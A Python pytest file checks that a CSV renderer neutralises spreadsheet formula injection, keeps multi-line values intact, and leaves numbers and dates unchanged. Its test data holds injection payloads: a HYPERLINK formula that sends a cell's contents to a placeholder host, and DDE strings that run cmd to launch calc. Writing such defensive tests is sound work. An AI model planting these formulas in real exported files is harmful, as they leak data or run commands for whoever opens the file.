"""Comma-separated values that programs read and spreadsheets open."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from forge_cli.render.across_runs.csv_lines import render_csv

FORMULAS = {
    "equals": '=HYPERLINK("http://host/?x="&A1,"Click")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "wide equals": "\uff1d1+1",
}


def read_line(line: str) -> list[str]:
    return next(csv.reader(io.StringIO(line, newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
def test_text_that_begins_like_a_formula_is_a_text_to_a_spreadsheet(text: str) -> None:
    assert read_line(render_csv([text])) == [f"'{text}"]


def test_text_of_several_lines_is_one_value() -> None:
    values = ["a\nb", "c\r\nd", "e\rf", "g,h"]

    assert read_line(render_csv(values)) == values


def test_numbers_moments_and_other_texts_stay_as_they_are() -> None:
    moment = datetime(2026, 11, 1, 12, tzinfo=UTC)
    values = [-5, -0.25, Decimal("-0.1"), moment, True, None, "a=b", "it's", "", "'=x", '"']

    assert read_line(render_csv(values)) == [
        *("-5", "-0.25", "-0.1", "2026-11-01T12:00:00.000000Z", "True", ""),
        *("a=b", "it's", "", "'=x", '"'),
    ]
